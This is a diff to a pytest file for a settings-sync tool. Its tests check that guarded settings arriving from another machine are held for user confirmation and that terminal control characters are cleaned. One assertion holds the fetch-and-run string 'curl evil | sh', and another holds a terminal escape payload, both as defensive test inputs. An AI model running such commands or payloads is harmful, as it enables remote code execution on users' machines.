@@ -22,10 +22,10 @@ from pathlib import Path
 import pexpect
 import pytest
 from conftest import PASSPHRASE, Machine, snapshot_tree, transcript
-from hypothesis import given
+from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from claude_sync import config
+from claude_sync import config, settings_trust
 from claude_sync.repository import FileEntry, PackWriter, Repository, Snapshot
 from claude_sync.store import RemoteOptions, open_store
 from claude_sync.store.base import redact
@@ -57,7 +57,7 @@ def set_up(a: Machine, b: Machine, repo_dir: Path) -> None:
     b.run("types", "--disable", "settings-commands")
 
 
-def settings(m: Machine) -> dict[str, object]:
+def settings_of(m: Machine) -> dict[str, object]:
     return json.loads((m.claude / "settings.json").read_text())
 
 
@@ -73,7 +73,7 @@ def test_guarded_settings_wait_for_resolve_without_a_terminal(machines, repo_dir
 
     pull = b.run("pull", check=False)
     assert pull.returncode == 3, pull.stderr
-    held = settings(b)
+    held = settings_of(b)
     assert held["model"] == "opus"  # ordinary settings keep syncing
     assert held["env"] == {"MINE": "1"}  # the local value is kept
     for key in set(MALICIOUS) - {"env"}:
@@ -91,7 +91,7 @@ def test_guarded_settings_wait_for_resolve_without_a_terminal(machines, repo_dir
     assert b.json("status")["conflicts"] == ["settings.json"]
 
     b.run("resolve", "settings.json", "--take", "remote")
-    assert settings(b) == {"model": "opus", **MALICIOUS}
+    assert settings_of(b) == {"model": "opus", **MALICIOUS}
     assert b.json("pull")["conflicts"] == []
 
 
@@ -103,9 +103,9 @@ def test_keeping_local_settings_sends_them(machines, repo_dir):
     b.run("resolve", "settings.json", "--take", "local")
     # Taking away a's commands is a change to guarded keys too: a is asked in turn.
     assert a.run("pull", check=False).returncode == 3
-    assert settings(a) == {"model": "opus", **MALICIOUS}
+    assert settings_of(a) == {"model": "opus", **MALICIOUS}
     a.run("resolve", "settings.json", "--take", "remote")
-    assert settings(a) == {"model": "opus", "env": {"MINE": "1"}}
+    assert settings_of(a) == {"model": "opus", "env": {"MINE": "1"}}
 
 
 def test_a_machine_can_opt_in_to_trusting_them(machines, repo_dir):
@@ -115,7 +115,7 @@ def test_a_machine_can_opt_in_to_trusting_them(machines, repo_dir):
     b.run("types", "--enable", "settings-commands")
     push_malicious(a)
     assert b.json("pull")["conflicts"] == []
-    assert settings(b) == {"model": "opus", **MALICIOUS}
+    assert settings_of(b) == {"model": "opus", **MALICIOUS}
 
 
 def pull_on_terminal(m: Machine) -> pexpect.spawn:
@@ -144,10 +144,10 @@ def test_on_a_terminal_pull_shows_the_change_and_asks(machines, repo_dir, answer
     assert "curl evil | sh" in shown and "apiKeyHelper" in shown
     if answer == "y":
         assert child.exitstatus == 0
-        assert settings(b) == {"model": "opus", **MALICIOUS}
+        assert settings_of(b) == {"model": "opus", **MALICIOUS}
     else:
         assert child.exitstatus == 3
-        assert "apiKeyHelper" not in settings(b) and settings(b)["model"] == "opus"
+        assert "apiKeyHelper" not in settings_of(b) and settings_of(b)["model"] == "opus"
         assert "settings.json" in b.run("conflicts").stdout
 
 
@@ -158,14 +158,14 @@ def test_own_session_hooks_are_never_synced(machines, repo_dir):
     assert "hook session-start" in (a.claude / "settings.json").read_text()
     a.run("push")
     assert b.json("pull")["conflicts"] == []
-    assert "hooks" not in settings(b)
+    assert "hooks" not in settings_of(b)
     b.run("install", "--timeout", "7")
-    mine = settings(b)["hooks"]
+    mine = settings_of(b)["hooks"]
     a.write("settings.json", (a.claude / "settings.json").read_text().replace("sonnet", "opus"))
     a.run("push")
     assert b.json("pull")["pulled"] == ["settings.json"]
-    assert settings(b)["model"] == "opus"
-    assert settings(b)["hooks"] == mine  # b's own hooks, not a's
+    assert settings_of(b)["model"] == "opus"
+    assert settings_of(b)["hooks"] == mine  # b's own hooks, not a's
     assert b.json("push")["pushed"] == []
 
 
@@ -286,6 +286,7 @@ def test_control_characters_never_reach_the_terminal(make_machine, repo_dir):
     assert "evil?]0;owned" in outputs[1].stdout
 
 
+@settings(print_blob=True)
 @given(st.text())
 def test_cleaned_text_has_no_control_characters(text):
     for out in (clean(text), clean_value(text)):
@@ -393,3 +394,34 @@ def test_export_names_no_user_or_group(machines, tmp_path):
     with tarfile.open(archive) as tar:
         for member in tar.getmembers():
             assert (member.uname, member.gname, member.uid, member.gid) == ("", "", 0, 0)
+
+
+KEYS = st.sampled_from(["model", "theme", "cleanupPeriodDays", *MALICIOUS])
+SETTINGS = st.dictionaries(KEYS, st.integers() | st.text(max_size=5) | st.just({"a": 1}))
+
+
+@settings(print_blob=True)
+@given(incoming=SETTINGS, mine=SETTINGS)
+def test_a_held_file_has_the_remote_ordinary_keys_and_the_local_guarded_ones(incoming, mine):
+    held = settings_trust.blend(json.dumps(incoming).encode(), json.dumps(mine).encode())
+    assert held is not None
+    got = json.loads(held)
+    assert {k: v for k, v in got.items() if k in MALICIOUS} == {
+        k: v for k, v in mine.items() if k in MALICIOUS
+    }
+    assert {k: v for k, v in got.items() if k not in MALICIOUS} == {
+        k: v for k, v in incoming.items() if k not in MALICIOUS
+    }
+    assert settings_trust.changed_keys(held, json.dumps(mine).encode()) == {}
+
+
+@settings(print_blob=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(stored=SETTINGS, own_timeout=st.integers(1, 60))
+def test_own_hooks_never_leave_the_machine_and_always_come_back(stored, own_timeout, tmp_path):
+    own = {"type": "command", "command": f"claude-sync hook session-start --timeout {own_timeout}"}
+    local = tmp_path / "settings.json"
+    local.write_text(json.dumps({"hooks": {"SessionStart": [{"hooks": [own]}]}}))
+    filt = settings_trust.SettingsFilter(tmp_path / "home", local)
+    written = filt.to_local(json.dumps(stored).encode())
+    assert own in json.loads(written)["hooks"]["SessionStart"][-1]["hooks"]
+    assert "claude-sync hook" not in filt.to_logical(written).decode()
